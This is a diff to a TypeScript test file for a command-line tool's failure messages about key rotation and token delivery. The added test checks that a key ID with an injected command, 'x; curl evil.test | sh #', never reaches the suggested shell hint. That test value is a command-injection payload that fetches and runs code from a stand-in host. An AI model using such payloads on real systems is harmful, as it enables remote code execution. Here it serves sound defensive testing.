@@ -23,6 +23,7 @@ const keys = [
   "oldKeyId",
   "keyIds",
   "delivered",
+  "childExitCode",
 ]
 const rendered = (failure: Failure, json: boolean) => render(describeFailure(failure), json)?.value ?? ""
 const errorOf = (failure: Failure) =>
@@ -89,6 +90,30 @@ describe("every failure", () => {
     ]
     for (const failure of failures)
       expect(errorOf(failure)).toMatchObject({ status: 503, requestId: "req-1" })
+  })
+
+  it("suggests a command with a key ID only where the server's text is one", () => {
+    const keyId = "x; curl evil.test | sh #"
+    const failures = [
+      new Errors.OutcomeUnknown({ label: "ci", found: [keyId], cause: undefined }),
+      new Errors.TokenUndelivered({
+        keyId,
+        undone: false,
+        cause: new Errors.DeliveryFailed({ target: "stdout", code: "EPIPE" }),
+      }),
+      new Errors.RotationStopped({
+        ...rotation,
+        step: "deliver",
+        newKeyId: keyId,
+        undone: false,
+        cause: undefined,
+      }),
+    ]
+    for (const failure of failures) {
+      const hint = rendered(failure, false).split("\n")[1]
+      expect(hint).toContain("Find it with: zpcli pat list")
+      expect(hint).not.toContain("curl")
+    }
   })
 
   it("has the type of its family in JSON where a script need not tell its members apart", () => {
